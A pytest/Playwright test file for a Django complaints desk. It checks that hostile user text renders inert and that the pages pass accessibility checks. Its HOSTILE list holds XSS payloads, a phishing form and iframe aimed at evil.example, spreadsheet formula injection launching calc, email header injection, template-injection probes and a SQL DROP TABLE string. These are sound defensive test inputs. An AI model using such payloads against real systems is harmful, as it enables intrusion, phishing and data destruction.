"""The desk's pages in a real browser: strangers' text stays inert, and everybody can use them."""

from collections.abc import Callable
from typing import Any

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Page

from complaints.domain.cleaning import LONGEST_TEXT, clean_line, clean_text
from complaints.models import Case, Post
from tests.dashboards.page_faults import faults, sideways

pytestmark = pytest.mark.django_db(transaction=True)
ZERO_WIDTH = chr(0x200B)
RIGHT_TO_LEFT = chr(0x202E)
HOSTILE = [  # as strangers send it; what only a transport can do has tests beside the spiders
    "半个字 \ud83d",
    "a\x00b\x1b[31m红\x07",
    "长帖。" * 30_000,
    "退" * 60_000,
    f"退{ZERO_WIDTH}费 退{ZERO_WIDTH}款",
    f"{RIGHT_TO_LEFT}反过来的字",
    "\ud83d\ude21👨\u200d👩\u200d👧\u200d👦🇨🇳" * 20,
    "Z" + "\u0335\u0321\u0334" * 170,
    "ｒｅｆｕｎｄ 退費 \U00020bb7 ㈱",
    "鍏ㄩ儴閫€璐\ufeff\ufffd",
    '{"text": "{\\"text\\": \\"断了',
    "NaN Infinity 1e400 9223372036854775808",
    "刚刚 1970-01-01 2099-02-30",
    "1.2万 10万+ 3亿 -5 １２",
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    "</textarea></bdi><script>document.title='owned'</script>",
    "&lt;script&gt;document.title='owned'&amp;lt;/script&amp;gt;",
    "<a href=javascript:alert(1)>x</a><style>*{display:none}</style>",
    "]]><!--<iframe src=//evil.example></iframe>-->",
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    '=HYPERLINK("http://evil.example","点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0\t\r\n\"x\",",
    "{{7919*7907}} {% debug %} ${7919*7907} #{7919*7907} %n",
    "主题\r\nBcc: everyone@evil.example\r\n\r\n",
    "a" * 3000 + "!" + "(a+)+$",
    "[" * 10_000,
    '" OR * (',
    "请完成验证 <form action=//evil.example><input name=password></form>",
    "'; DROP TABLE complaints_post; --",
]


def test_strangers_text_is_inert_on_every_page(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any]
) -> None:
    numbers = []
    for number, sent in enumerate(HOSTILE):
        text, line = clean_text(sent)[:LONGEST_TEXT], clean_line(sent, 40)
        made = make_case(
            text=f"{text} 青禾", author_id=str(number), author_name=line, region=line, device=line
        )
        numbers.append(made.number)
    colleague("boss", "admin", "管理员")
    sign_in(page, "boss")
    for address in ["/desk/", *(f"/desk/cases/{number}/" for number in numbers)]:
        page.goto(address)
        page.wait_for_load_state()
        assert "owned" not in page.title()
        made_of_text = ":is(bdi, .post-text, .row-text) :is(script, img, svg, style, form), bdi a"
        assert page.locator(f"{made_of_text}, iframe").count() == 0
        assert str(7919 * 7907) not in page.content()
    assert Post.objects.count() == len(HOSTILE)
    inline = page.evaluate("[...document.querySelectorAll('script')].filter(s => !s.src).length")
    assert inline == 0


@pytest.mark.parametrize("size", [(1280, 800), (375, 812)])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_serious_fault_of_accessibility(
    page: Page, sign_in: Any, colleague: Callable[..., User], make_case: Callable[..., Any],
    now: Any, size: tuple[int, int], scheme: Any,
) -> None:  # fmt: skip
    boss = colleague("boss", "admin", "管理员")
    made = make_case(
        text="@青禾网校 一直卡", author_id="1", author_name="王", category="refund_fees"
    )
    make_case(text="拿不准的一条", label="unsure", severity=3)
    answered = make_case(text="退费", author_id="2", category="refund_fees", severity=1)
    Case.objects.filter(pk=made.pk).update(assignee=boss, status="claimed")
    Case.objects.filter(pk=answered.pk).update(
        assignee=boss, status="answered", answered_at=now, first_response_at=now
    )
    page.set_viewport_size({"width": size[0], "height": size[1]})
    page.emulate_media(color_scheme=scheme)
    page.goto("/account/login/")
    assert faults(page) == []
    sign_in(page, "boss")
    page.wait_for_load_state("networkidle")
    for address in ("/desk/", f"/desk/cases/{made.number}/", f"/desk/cases/{answered.number}/"):
        page.goto(address)
        page.wait_for_load_state("networkidle")
        assert faults(page) == [], address
        assert sideways(page) == 0, address
